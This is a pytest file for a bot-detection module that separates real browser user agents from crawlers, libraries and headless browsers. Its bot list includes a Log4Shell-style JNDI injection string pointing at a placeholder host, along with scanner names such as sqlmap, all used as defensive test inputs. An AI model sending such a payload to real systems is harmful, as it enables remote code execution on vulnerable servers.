# ruff: noqa: E501
"""Bots are found, and no person's browser is lost."""

import json
import timeit
from pathlib import Path

import pytest

from wagtail_leads.logic import bots
from wagtail_leads.logic.bots import bot_reason, is_bot
from wagtail_leads.logic.kinds import DropReason

DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "user-agents"
TABLES = Path(__file__).parent / "agents"


def table(name: str) -> list[str]:
    """Agents of a table, one a line."""
    lines = (TABLES / name).read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line and not line.startswith("# ")]


#: Written by hand: in-app browsers, televisions, consoles, old and rare browsers. One a line.
BROWSERS = """
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.9.1
Mozilla/5.0 (Linux; Android 14; SO-51D Build/67.2.A.2.118; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 Line/14.10.0/IAB
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 YJApp-IOS jp.co.yahoo.ipn.appli/4.136.1
Mozilla/5.0 (Linux; Android 13; SHG10 Build/S3044; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 YJApp-ANDROID jp.co.yahoo.android.yjtop/3.163.0
Mozilla/5.0 (Linux; Android 12; SC-51B Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.179 Mobile Safari/537.36 YJApp-ANDROID jp.co.yahoo.android.ybrowser/3.30.1
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/24165.1410.2974.6689 Chrome/124.0.6367.156 Safari/537.36 Edg/124.0.2478.131
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/1.5.00.21463 Chrome/85.0.4183.121 Electron/10.4.7 Safari/537.36
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 TeamsMobile-iOS/6.10.1
Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E236 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBBV/588963735;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBID/phone;FBLC/ja_JP;FBOP/5;FBRV/590731353]
Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/468.0.0.41.78;]
Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/AP1A.240505.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.113 Mobile Safari/537.36 Instagram 335.0.0.39.93 Android (34/14; 420dpi; 1080x2209; Google/google; Pixel 7; panther; panther; ja_JP; 609775437)
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 335.1.8.26.85 (iPhone13,2; iOS 17_5_1; ja_JP; ja; scale=3.00; 1170x2532; 611093288; IABMV/1)
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36 Sonic Slack_SSB/4.38.125
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36 AppleSilicon Sonic Slack_SSB/4.38.125
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Outlook-iOS/728.3442.prod.iphone (4.2422.0)
Outlook-iOS/709.2226530.prod.iphone (3.24.1)
Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240205.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36
Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240205.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 GSA/15.21.37.28.arm64
Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S928N) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36
Mozilla/5.0 (Linux; U; Android 12; en-US; RMX3085 Build/SP1A.210812.016) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.7.2.1636 Mobile Safari/537.36
UCWEB/2.0 (Java; U; MIDP-2.0; en-US; nokia6120c) U2/1.0.0 UCBrowser/8.9.0.251 U2/1.0.0 Mobile UNTRUSTED/1.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Vivaldi/6.8.3381.44
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0
Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0
Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager
Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.5) AppleWebKit/537.36 (KHTML, like Gecko) 85.0.4183.93/6.5 TV Safari/537.36
Mozilla/5.0 (Linux; Android 11; BRAVIA 4K VH2 Build/RTT1.211202.001.S94) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.104 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.0.273.DIA6.149
Mozilla/5.0 (Linux; Android 9; AFTS Build/PS7285; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/108.0.5359.220 Mobile Safari/537.36 cordova-amazon-fireos/3.4.0 AmazonWebAppPlatform/3.4.0
Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/126.2.2 like Chrome/126.0.6478.71 Safari/537.36
Mozilla/5.0 (PlayStation; PlayStation 5/6.50) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15
Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474
Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko
Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E)
Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10
Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10
Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/321.0.643180481 Mobile/15E148 Safari/604.1
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15 Ddg/17.5
Mozilla/5.0 (Linux; Android 10; CUBOT_X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36
Mozilla/5.0 (Linux; Android 9; CUBOT NOTE 7 Build/PPR1.180610.011) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.91 Mobile Safari/537.36
Mozilla/5.0 (Linux; Android 10; M bot 60) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.0.0 Mobile Safari/537.36
Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_30.4.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/ja Region/JP isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6
Mozilla/5.0 (Linux; Android 13; SM-A546E Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 trill_2023407030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/34.7.3 ByteLocale/ja-JP ByteFullLocale/ja-JP Region/JP Spark/1.5.9.1 AppVersion/34.7.3 BytedanceWebview/d8a21c6
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.46
Mozilla/5.0 (Linux; Android 14; SO-53C Build/64.2.B.2.9; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.72 Mobile Safari/537.36 TwitterAndroid
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.6234
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]
Mozilla/5.0 (Linux; Android 14; SM-S911B Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [Pinterest/Android]
Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.5 Mobile/15E148 Snapchat/12.85.0.35 (like Safari/8615.2.9.10.4, panda)
Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/ja
Mozilla/5.0 (Linux; Android 13; V2203A Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160117 MMWEBSDK/20240501 MMWEBID/2894 MicroMessenger/8.0.50.2701(0x2800325B) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64
Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 KAKAOTALK 10.8.1
Mozilla/5.0 (Linux; Android 14; SM-S921N Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 NAVER(inapp; search; 1140; 12.6.3)
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 SmartNews 24.6.0
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Gunosy/10.0
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148
Mozilla/5.0 (iPad; CPU OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Sleipnir/6.5.12
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 YaBrowser/24.6.0.0 Safari/537.36
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Whale/3.26.244.21 Safari/537.36
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.95 Electron/29.1.0 Safari/537.36 Notion/3.10.0
Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.95 Safari/537.36 QIHU 360SE
Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 Safari/537.36 SE 2.X MetaSr 1.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0 (Edition Yx 05)
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 AtContent/95.5.5462.5
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Avast/125.0.0.0
Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0
Mozilla/5.0 (Mobile; Nokia 8110 4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5
Mozilla/5.0 (Phone; OpenHarmony 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1 Mobile HuaweiBrowser/5.0.4.300
Mozilla/5.0 (Linux; Android 10; HarmonyOS; NOH-AN00; HMSCore 6.13.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.88 HuaweiBrowser/14.0.5.302 Mobile Safari/537.36
Mozilla/5.0 (Linux; U; Android 13; ja-jp; 22041219G Build/TP1A.220624.014) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.13.0-gn
Mozilla/5.0 (Linux; Android 4.4.2; en-us; SAMSUNG SM-T530 Build/KOT49H) AppleWebKit/537.36 (KHTML, like Gecko) Version/1.5 Chrome/28.0.1500.94 Safari/537.36
Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+
Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)
Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537
Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edge/44.18363.8131
DoCoMo/2.0 P903i(c100;TB;W24H12)
KDDI-CA39 UP.Browser/6.2.0.13.1.5 (GUI) MMP/2.0
SoftBank/1.0/930SH/SHJ001/SN123456789012345 Browser/NetFront/3.5 Profile/MIDP-2.0 Configuration/CLDC-1.1
Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Safari/605.1.15 Epiphany/605.1.15
Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) QtWebEngine/5.15.2 Chrome/87.0.4280.144 Safari/537.36
Mozilla/5.0 (Linux; Android 12; moto g pure Build/S3RHS32.20-42-13; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.72 Mobile Safari/537.36 Flipboard/4.3.24/5449,4.3.24.5449
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1 AlohaBrowser/5.8.0
Mozilla/5.0 (Linux; arm_64; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.201 YaBrowser/24.4.4.91.00 SA/3 Mobile Safari/537.36
Mozilla/5.0 (Linux; Android 13; SM-A137F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 YandexSearch/7.80 YandexSearchBrowser/7.80
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Arc/1.50.0
Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; Touch; .NET4.0C; .NET4.0E; MAFSJS; rv:11.0) like Gecko
Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1 [ip:203.0.113.5]
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Evernote/10.90
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 QRScanner/2.1
Mozilla/5.0 (Linux; Android 14; A103SO Build/1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.72 Mobile Safari/537.36 Chatwork/5.0
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1 Rakuten/5.0 NewsReader/2
Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Barcelona 340.0.3.27.94 (iPhone14,2; iOS 18_1; ja_JP; ja; scale=3.00; 1170x2532; 620)
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Norton/126.0.0.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) discord/1.0.9148 Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36
Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/33.0.0.7.71 Chrome/124.0.6367.207 VR Safari/537.36
Mozilla/5.0 (Linux; Tizen 2.3; SMART-TV) AppleWebkit/538.1 (KHTML, like Gecko) SamsungBrowser/1.0 TV Safari/538.1
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Feedly/94
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Hatena-Bookmark-iOS/4.2
Mozilla/5.0 (Nintendo 3DS; U; ; ja) Version/1.7412.JP
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Safari/537.36 NewExtension
Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chromium/88.0.4324.182 Chrome/88.0.4324.182 Safari/537.36 Tesla/2024.14.3
""".strip().splitlines()

BOTS = """
curl/8.5.0
Wget/1.21.4
python-requests/2.32.3
Go-http-client/1.1
okhttp/4.12.0
Java/17.0.2
Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A)
MyApp/3.2 CFNetwork/1494.0.7 Darwin/23.4.0
node
Mozilla/5.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64)
Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)
Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot
Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36
Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1
Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36; Somebody
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 NewTool.io/2.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 (someone@example.org)
Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Microsoft Outlook 15.0.5031; ms-office; MSOffice 15) like Gecko
facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
LINE-Parts/1.0
Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
Mozilla/5.0 (Windows NT 10.0; Win64; x64) Uptime-Robot
Y!J-ASR/0.1 crawler (http://www.yahoo-help.jp/app/answers/detail/p/595/a_id/42716/)
Hatena::UserAgent/0.03
ZmEu
sqlmap/1.8#stable (https://sqlmap.org)
${jndi:ldap://203.0.113.1/a}
""".strip().splitlines()


def test_not_one_of_hundreds_of_browsers_is_lost():
    """In-app browsers, telephones of all makers, televisions, consoles, cars, what is old and still in use."""
    browsers = table("browsers.txt")
    assert len(browsers) > 400 and len(set(browsers)) == len(browsers)
    assert [agent for agent in browsers if is_bot(agent)] == []


def test_hundreds_of_machines_are_found():
    """AI, search, Japan's, monitoring, link previews, mail scanners, libraries, driven browsers, SEO, and liars."""
    machines = table("machines.txt")
    assert len(machines) > 500 and len(set(machines)) == len(machines)
    assert [agent for agent in machines if not is_bot(agent)] == []


def test_our_own_rules_find_nearly_all_of_them_alone():
    """What is on no list yet: a new crawler is found by its shape and by what it says of itself."""
    machines = table("machines.txt")
    own_rules = [applies for applies, _reason in bots.RULES if applies is not bots.is_on_a_public_list]
    found = sum(any(rule(agent) for rule in own_rules) for agent in machines)
    assert found / len(machines) >= 0.99  # measured 1.0


#: Each is a word by which machines are found elsewhere.
WORDS_OF_THE_TRADE = (
    "Spider 8", "GOT-W09", "Swift 3", "Robot X", "Smart Monitor M8", "Node 5", "Rust", "Ruby", "Probe", "Archive 5", "Bot One",
    "Preview", "Scanner 10", "Fetch TV", "PHP 7", "Crawler", "Lighthouse", "Cypress", "Google Box", "Validator", "x.com", "Mabl",
)  # fmt: skip


@pytest.mark.parametrize("word", WORDS_OF_THE_TRADE)
@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (Linux; Android 14; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 9; ja-jp; {} Build/P1) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
        "Chrome/99.0.1.1 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 12; HarmonyOS; {}; HMSCore 6.6.0.369) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/99.0.4515.105 HuaweiBrowser/12.0.4.310 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; SM-1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.58 "
        "Mobile Safari/537.36 Instagram 335.0.0.39.93 Android (33/13; 320dpi; 1600x2560; MAKER; {}; ja_JP; 609)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 "
        "[FBAN/FBIOS;FBAV/488.0.0.64.104;FBDV/{};FBSN/iOS;FBCR/{};FBID/phone;FBLC/de_DE;FBOP/5;FBRV/0]",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 "
        "[FBAN/FBW;FBAV/320.0;FBDV/WindowsDevice;FBMD/{}",
    ],
)  # fmt: skip
def test_a_device_may_be_called_anything(agent, word):
    assert bot_reason(agent.replace("{}", word)) is None


@pytest.mark.parametrize(
    "name",
    [
        "Monitor-App/3",
        "Box/8.1 preview",
        "GoogleClassroom/9",
        "Archive/1",
        "Fetch/2",
        "Inspect/1",
        "SEO/2",
        "swift/5",
        "a.de/1",
    ],
)
def test_an_app_on_a_telephone_may_be_called_nearly_anything(name):
    iphone = (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
    )
    android = (
        "Mozilla/5.0 (Linux; Android 12; TB-X306F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
        "Chrome/138.0.0.0 Safari/537.36"
    )
    for agent in (f"{iphone} {name}", f"{iphone} Safari/604.1 {name}", f"{android} {name}", f"{android}; {name}"):
        assert bot_reason(agent) is None
    desktop = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"
    assert is_bot(f"{desktop}; {name}")


def test_an_unknown_name_on_a_desktop_is_no_machine_by_itself():
    """Extensions, companies' own browsers and apps sign too."""
    desktop = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"
    assert not any(is_bot(f"{desktop} {name}") for name in ("Mihon/1.0", "MihonKiosk", "Honorlock", "Herring/97.1"))
    assert all(
        is_bot(f"{desktop} {name}") for name in ("Mimecast", "VirusTotal", "FireEye/1.0", "Mabl", "(StatusCake)")
    )


def test_a_browser_that_is_cut_off_is_a_browser_only_while_it_names_itself():
    """Proxies and log formats cut agents. What is left must still say which browser it is."""
    whole = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
    assert not is_bot(whole) and not is_bot(whole[: whole.index(" Safari")])
    assert is_bot(whole[: whole.index("Chrome/")].strip()) and is_bot(whole[:40])


@pytest.mark.parametrize("agent", BROWSERS)
def test_a_persons_browser_is_kept(agent):
    assert bot_reason(agent) is None


@pytest.mark.parametrize("agent", BOTS)
def test_a_machine_is_found(agent):
    assert is_bot(agent)


@pytest.mark.parametrize(
    ("agent", "reason"),
    [
        ("", DropReason.EMPTY_AGENT),
        ("  ", DropReason.EMPTY_AGENT),
        ("-", DropReason.EMPTY_AGENT),
        ("curl/8.5.0", DropReason.BOT_AGENT),
        ("Something/1.0", DropReason.NOT_A_BROWSER),
        ("\udcff\x00", DropReason.NOT_A_BROWSER),
        ("(" * 10_000, DropReason.NOT_A_BROWSER),
    ],
)
def test_the_reason_is_named(agent, reason):
    assert bot_reason(agent) is reason


def test_only_the_first_512_characters_count():
    agent = BROWSERS[0] + " " * 600 + "Googlebot"
    assert not is_bot(agent)


def test_a_cached_answer_is_cheap():
    is_bot(BROWSERS[0])
    assert min(timeit.repeat(lambda: is_bot(BROWSERS[0]), number=10_000, repeat=5)) < 0.02  # 2 us; measured 0.17


def test_hostile_agents_do_not_hold_the_flusher():
    hostile = [
        "Mozilla/5.0 (" + "(a" * 250,
        "Mozilla/5.0 (X11" + "; Linux" * 70 + ")",
        "a." * 256,
        "Mozilla/5.0 (Windows) " + "a " * 240,
        "Mozilla/5.0 (Linux; Android " + "(b) " * 120,
        "Mozilla/5.0 Linux; Android " * 19,
        "iphone android " * 34,
        "Mozilla/5.0 (iPhone) Mobile/1" + "Safari/1 " * 55,
        "Mozilla/5.0 (Linux; Android) AppleWebKit/5 (KHTML, like " + "(1/2; 3dpi;" * 40,
        "a" * 80 + "Mozilla/5.0" + "webkit khtml " * 30,
    ]
    assert timeit.timeit(lambda: [bots._reason.__wrapped__(agent) for agent in hostile], number=1) < 0.5


@pytest.mark.skipif(not DATA.is_dir(), reason=f"the lists of real agents are not at {DATA}")
class TestRealAgents:
    def agents(self, name):
